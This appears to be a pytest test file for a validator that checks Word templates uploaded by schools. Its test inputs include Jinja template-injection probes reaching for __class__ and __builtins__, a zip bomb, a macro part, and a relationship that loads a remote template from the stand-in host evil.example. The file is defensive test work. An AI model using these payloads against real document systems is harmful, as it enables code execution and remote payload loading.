"""What is said of a template that a school uploads."""

from __future__ import annotations

import io
import random
import zipfile

import pytest
from docx import Document as Word

from adapters.documents import Problem, check_template, template_for
from adapters.documents.check import LARGEST


def saying(text: str, *, header: str = "") -> bytes:
    word = Word()
    word.add_paragraph(text)
    word.sections[0].header.paragraphs[0].text = header
    out = io.BytesIO()
    word.save(out)
    return out.getvalue()


def with_entry(docx: bytes, name: str, data: str) -> bytes:
    out = io.BytesIO(docx)
    with zipfile.ZipFile(out, "a") as package:
        package.writestr(name, data)
    return out.getvalue()


def test_takes_a_template_that_shows_what_the_document_has() -> None:
    text = (
        "{% for line in lines %}{{ loop.index }} {{ line.mentor.name|initials }} {{ lines[0].start|day }}{% endfor %}"
    )
    assert check_template(saying(text, header="{{ school.short_name|upper }}"), "order_closing") == []


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("{{ director }}", Problem("unknown_name", "document", "director")),
        ("{{ person.nickname }}", Problem("unknown_field", "document", "nickname")),
        ("{{ person['nickname'] }}", Problem("unknown_field", "document", "nickname")),
        ("{{ person.__class__ }}", Problem("underscore", "document", "__class__")),
        ("{{ person['__class__'] }}", Problem("underscore", "document", "__class__")),
        ("{{ __builtins__ }}", Problem("underscore", "document", "__builtins__")),
        ("{{ person[rules] }}", Problem("forbidden", "document", "Getitem")),
        ("{{ person.name|safe }}", Problem("unknown_filter", "document", "safe")),
        ("{{ person.name() }}", Problem("forbidden", "document", "Call")),
        ("{{ rules * 9 }}", Problem("forbidden", "document", "Mul")),
        ("{% include rules %}", Problem("forbidden", "document", "Include")),
        (
            "{% autoescape false %}{{ rules }}{% endautoescape %}",
            Problem("forbidden", "document", "ScopedEvalContextModifier"),
        ),
    ],
)
def test_names_what_a_template_must_not_ask_for(text: str, problem: Problem) -> None:
    assert problem in check_template(saying(text), "consent")


def test_looks_into_the_branch_that_is_seldom_taken() -> None:
    assert check_template(saying("{% if addendum %}{{ payment }}{% endif %}"), "consent") == [
        Problem("unknown_name", "document", "payment")
    ]


def test_looks_into_headers_and_properties() -> None:
    word = Word(io.BytesIO(saying("", header="{{ nobody }}")))
    word.core_properties.title = "{{ nothing }}"
    out = io.BytesIO()
    word.save(out)
    found = {(problem.where, problem.detail) for problem in check_template(out.getvalue(), "consent")}
    assert found == {("/word/header1.xml", "nobody"), ("properties", "nothing")}


def test_says_where_the_syntax_is_broken() -> None:
    (problem,) = check_template(saying("{% if draft %}no end"), "consent")
    assert (problem.code, problem.where) == ("syntax", "document")


def test_refuses_what_is_not_a_word_file() -> None:
    assert [each.code for each in check_template(b"%PDF-1.7", "consent")] == ["not_word"]
    empty = io.BytesIO()
    zipfile.ZipFile(empty, "w").close()
    assert [each.code for each in check_template(empty.getvalue(), "consent")] == ["not_word"]


def test_refuses_a_file_over_the_size() -> None:
    assert check_template(bytes(LARGEST + 1), "consent") == [Problem("too_large")]


def test_refuses_a_small_file_that_unpacks_to_a_huge_one() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", bytes(50_000_000))
    assert check_template(out.getvalue(), "consent") == [Problem("too_large")]


def test_refuses_macros_and_pictures_from_outside() -> None:
    macro = with_entry(template_for("consent"), "word/vbaProject.bin", "x")
    assert check_template(macro, "consent") == [Problem("macros", "word/vbaProject.bin")]
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    linked = with_entry(template_for("consent"), "word/_rels/settings.xml.rels", rels)
    assert check_template(linked, "consent") == [
        Problem("outside_link", "word/_rels/settings.xml.rels", "https://evil.example/t.dotm")
    ]


def test_knows_only_the_kinds_there_are() -> None:
    with pytest.raises(KeyError):
        check_template(saying(""), "memo")


def test_a_spoilt_file_is_told_of_whatever_is_broken_in_it() -> None:
    chance, whole = random.Random(4), saying("{{ school.short_name }}")
    for _ in range(150):
        spoilt = bytearray(whole)
        for _ in range(chance.choice((1, 3))):
            spoilt[chance.randrange(len(spoilt))] = chance.randrange(256)
        assert all(problem.code for problem in check_template(bytes(spoilt), "order_closing"))


@pytest.mark.parametrize("part", ["[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels"])
def test_a_part_that_is_not_what_it_should_be_is_not_word(part: str) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(saying("text"))) as old, zipfile.ZipFile(out, "w") as new:
        for entry in old.infolist():
            new.writestr(entry.filename, "<a/>" if entry.filename == part else old.read(entry))
    assert [problem.code for problem in check_template(out.getvalue(), "order_closing")] == ["not_word"]
